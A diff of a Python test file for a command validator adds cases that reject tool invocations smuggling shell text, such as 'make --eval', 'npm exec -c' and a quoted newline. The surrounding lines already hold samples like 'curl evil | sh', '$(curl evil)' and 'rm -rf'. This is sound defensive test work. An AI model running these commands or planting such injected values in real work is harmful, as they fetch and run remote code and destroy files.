@@ -48,6 +48,12 @@ def test_a_single_known_tool_inside_the_repository_is_accepted(command: str) -> 
     ('pytest "$(curl evil)"', "needs a shell ('$(')"),
     ('pytest "tests/a b.py" | tee x', "needs a shell ('|')"),
     ("pytest 'tests/a|b.py' && rm -rf .", "needs a shell ('&')"),
+    # Quoted shell text a tool runs as a script, or a quoted line break: a second command again.
+    ("make --eval='pwn:;@touch proof' pwn", "'--eval=pwn:;@touch proof' is shell text given to the tool"),
+    ("make -E 'pwn:;@touch proof' pwn", "'pwn:;@touch proof' is shell text given to the tool"),
+    ("npm exec -c 'pytest; curl evil | sh'", "'pytest; curl evil | sh' is shell text given to the tool"),
+    ("npx --call='a;b'", "'--call=a;b' is shell text given to the tool"),
+    ("pytest 'tests/a\nrm -rf ~'", "shell text given to the tool"),
     ("rm -rf /", "does not start with a known test or build tool"),
     ("bash -c 'pytest'", "does not start with a known test or build tool"),
     ("bundle exec ruby -e 'system(1)'", "does not start with a known test or build tool"),
@@ -87,6 +93,7 @@ def test_shell_characters_inside_quotes_are_a_file_names_own() -> None:
     assert parse_command('pytest "tests/test_a;b&c<d>.py" tests/x\\|y.py') == [
         "pytest", "tests/test_a;b&c<d>.py", "tests/x|y.py"]
     assert parse_command("pytest 'tests/$(x)`y`.py'") == ["pytest", "tests/$(x)`y`.py"]  # single quotes: literal
+    assert parse_command("go test -run 'Test(A|B)$' ./...") == ["go", "test", "-run", "Test(A|B)$", "./..."]
 
 
 def test_a_dollar_that_starts_no_variable_is_left_alone() -> None:
